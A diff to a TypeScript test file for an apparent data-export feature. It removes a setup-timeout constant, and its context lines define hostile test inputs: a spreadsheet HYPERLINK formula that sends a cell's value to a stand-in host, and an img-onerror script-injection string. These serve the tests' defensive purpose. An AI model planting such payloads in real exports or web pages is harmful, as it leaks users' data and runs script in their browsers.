@@ -7,7 +7,6 @@ import { callAs, makeOrg } from './__fixtures__/tenants.ts';
 
 const FORMULA = '=HYPERLINK("http://x/?"&A1,"y")';
 const MARKUP = '<img src=x onerror=alert(1)>';
-const SET_UP_MS_MAX = 300_000;
 const BOOKED_MS_MAX = 60_000;
 
 interface Exporter {
@@ -24,7 +23,7 @@ beforeAll(async () => {
   await untilMidnightIsFar();
   stack = await startStack();
   [a, b] = await Promise.all([makeExporter('alpha'), makeExporter('beta')]);
-}, SET_UP_MS_MAX);
+});
 afterAll(() => stack?.stop());
 
 /** Makes an org with a call, a refused call and a credit, whose texts are hostile. */
